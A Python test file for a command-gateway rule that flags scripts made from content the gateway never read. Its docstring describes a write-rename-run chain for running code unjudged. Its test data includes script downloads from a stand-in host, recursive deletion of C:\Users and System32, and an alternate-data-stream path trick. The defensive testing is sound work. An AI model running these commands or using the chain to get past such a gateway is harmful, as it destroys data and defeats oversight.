"""A script made from content the gateway did not read asks (S-RULE-114).

A `.ps1` written with constant content is judged as it is written; one renamed from a text file, downloaded
or written from a value nobody folded would run unjudged when a later call starts it (running a local script
is ordinary, so that later call passes). The two-call chain is the attack: write text, rename, run.
"""

from __future__ import annotations

import pytest

from policy.rules.match import load_rules
from tests._requirements import requirement
from tests.policy.verdicts import ps, verdict

ASK = ("unread-script", "ask")


@requirement("S-RULE-114")
@pytest.mark.parametrize(
    "command",
    [
        r"Rename-Item C:\t\notes.txt x.ps1",
        r"ren C:\t\notes.txt x.bat",
        r"Rename-Item C:\t\notes.txt 'x.ps1.'",  # Windows drops the trailing dot
        r"Move-Item C:\t\notes.txt C:\t\x.ps1",
        r"Copy-Item C:\t\notes.txt C:\t\x.ps1",
        r"cmd /c copy C:\t\notes.txt C:\t\x.bat",
        r"cmd /c move C:\t\notes.txt C:\t\x.cmd",
        r"xcopy C:\t\notes.txt C:\t\x.bat",
        r"[IO.File]::Move('C:\t\notes.txt','C:\t\x.ps1')",
        r"[IO.File]::Copy('C:\t\notes.txt','C:\t\x.ps1')",
        r"Invoke-WebRequest http://e.example/x -OutFile C:\t\x.ps1",
        r"curl.exe -o C:\t\x.ps1 http://e.example/x",
        r"Start-BitsTransfer -Source http://e.example/x -Destination C:\t\x.ps1",
        r"Set-Content C:\t\x.ps1 $s",
        r'Set-Content C:\t\x.ps1 -Value "Write-Output $x"',
        r"Get-Content C:\t\notes.txt | Set-Content C:\t\x.cmd",
        r"New-Item C:\t\x.ps1 -Value $v",
    ],
)
def test_a_script_made_from_content_nobody_read_asks(command: str) -> None:
    """S-RULE-114: renamed, copied or moved from a text file, downloaded, or written from an unknown value."""
    assert ps(command) == ASK


@requirement("S-RULE-114")
@pytest.mark.parametrize("mode", ["copy", "move"])
def test_filesystem_copy_or_move_of_a_text_file_to_a_script_asks(mode: str) -> None:
    """S-RULE-114: FileSystem's own copy and move make the script too."""
    assert verdict("FileSystem", mode=mode, path="C:\\t\\notes.txt", destination="C:\\t\\x.bat") == ASK
    assert verdict("FileSystem", mode=mode, path="C:\\t\\run.bat", destination="C:\\t\\run2.bat") is None


@requirement("S-RULE-114")
@pytest.mark.parametrize(
    "command",
    [
        r"Copy-Item C:\src\build.ps1 C:\src\build2.ps1",  # a script already: it could run as it is
        r"Rename-Item C:\src\run.bat run.cmd",
        r"New-Item -ItemType File C:\src\empty.ps1",  # empty
        r"Set-Content C:\src\x.ps1 'Write-Output hi'",  # constant: judged as written, and harmless
        r"Copy-Item C:\t\notes.txt C:\t\notes2.txt",
        r"Invoke-WebRequest http://e.example/data.json -OutFile C:\t\data.json",
    ],
)
def test_a_script_copied_an_empty_one_and_one_written_with_its_text_pass(command: str) -> None:
    """S-RULE-114: nothing new could run unjudged."""
    assert ps(command) is None


@requirement("S-RULE-114")
def test_what_is_worse_keeps_its_own_verdict_and_the_remedy_passes() -> None:
    """S-RULE-114: a script written into System32 is still denied for the place; a dangerous constant script is
    denied for what it does; the refusal names the script and says how to write it so it is judged — and
    doing that passes."""
    assert ps(r"Copy-Item C:\t\notes.txt C:\Windows\System32\x.bat") == ("protected-place-write", "deny")
    assert ps(r"Set-Content C:\t\x.ps1 'Remove-Item C:\Users -Recurse -Force'") == ("protected-place-delete", "deny")
    hit = load_rules().match("PowerShell", {"command": r"Rename-Item C:\t\notes.txt x.ps1"})
    assert hit is not None and "x.ps1" in hit.reason and "did not read" in hit.reason
    assert "FileSystem `write`" in hit.reason
    written = {"mode": "write", "path": "C:\\t\\x.ps1", "content": "Get-ChildItem C:\\t"}
    assert verdict("FileSystem", **written) is None


@requirement("S-RULE-114")
@pytest.mark.parametrize(
    ("tool", "args", "expected"),
    [
        ("PowerShell", {"command": r"Copy-Item C:\t\notes.txt 'C:\t\x.ps1::$DATA'"}, ASK),  # the main stream
        ("PowerShell", {"command": r"Rename-Item C:\t\notes.txt x.vbs"}, ASK),
        ("PowerShell", {"command": r"Set-Content C:\t\x.vbs 'WScript.Echo 1'"}, ASK),  # VBScript is never read
        ("FileSystem", {"mode": "write", "path": "C:\\t\\x.hta", "content": "<script>x</script>"}, ASK),
        ("FileSystem", {"mode": "write", "path": "C:\\t\\m.psm1", "content": "function f {}"}, ASK),
        ("FileSystem", {"mode": "write", "path": "C:\\t\\x.py", "content": "print(1)"}, None),
        ("PowerShell", {"command": r"Copy-Item C:\t\a.vbs C:\t\b.vbs"}, None),
    ],
)
def test_a_script_in_a_language_the_gateway_does_not_read_is_unread_however_made(
    tool: str, args: dict[str, object], expected: tuple[str, str] | None
) -> None:
    """S-RULE-114: `.vbs`, `.hta`, `.psm1` … ask even when written with constant text; `x.ps1::$DATA` is x.ps1;
    a Python file and a copy of a script pass."""
    assert verdict(tool, **args) == expected


@requirement("S-RULE-114")
@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("$s | New-Item C:\\t\\x.ps1", ("unread-script", "ask")),  # -Value takes the pipeline
        ("'Remove-Item C:\\Windows\\System32 -Recurse -Force' | New-Item C:\\t\\x.ps1", ("unread-script", "ask")),
        ("New-Item C:\\t\\x.ps1", None),  # nothing piped in: an empty script
        ("Get-Date | New-Item C:\\t\\x.txt", None),  # no script
    ],
)
def test_text_piped_into_new_item_makes_a_script_nobody_read(command: str, expected: object) -> None:
    """S-RULE-114: `New-Item`'s value can come down the pipe; the script it writes then was never read."""
    assert ps(command) == expected
